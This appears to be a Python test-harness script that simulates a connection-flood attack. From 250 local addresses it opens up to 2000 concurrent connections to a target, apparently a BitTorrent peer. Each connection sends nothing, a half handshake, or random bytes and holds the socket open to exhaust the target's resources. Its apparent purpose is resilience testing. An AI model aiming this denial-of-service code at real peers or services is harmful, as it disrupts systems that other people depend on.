"""250 hosts connect all the time and send nothing, half a handshake, or 96 random bytes that may begin an encrypted one: up to 2000 connections at once."""

import asyncio
import os
import resource
import threading

from attacker import Attacker, host

AT_ONCE = 2000

attacker = Attacker()
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (min(AT_ONCE + 100, limit), limit))
OPENINGS = (b"", b"\x13BitTorrent protocol", None)


async def connect(number: int, free: asyncio.Semaphore) -> None:
    async with free:
        try:
            opening = asyncio.open_connection(*attacker.target, local_addr=(host(number), 0))
            reader, writer = await asyncio.wait_for(opening, 8)
        except (OSError, TimeoutError):
            attacker.did["not connected"] += 1
            await asyncio.sleep(0.2)
            return
        attacker.did["connections"] += 1
        first = OPENINGS[number % len(OPENINGS)]
        writer.write(os.urandom(96) if first is None else first)
        try:
            while await asyncio.wait_for(reader.read(2000), 12):
                pass
        except (OSError, TimeoutError):
            pass
        writer.close()


async def crowd() -> None:
    free = asyncio.Semaphore(AT_ONCE)
    tasks: set[asyncio.Task[None]] = set()
    number = 0
    while not attacker.ended.is_set():
        await asyncio.sleep(0.02)
        for _ in range(20):
            if free.locked():
                break
            number += 1
            task = asyncio.create_task(connect(number, free))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
    for task in tasks:
        task.cancel()


threading.Thread(target=lambda: asyncio.run(crowd()), daemon=True).start()
attacker.live()
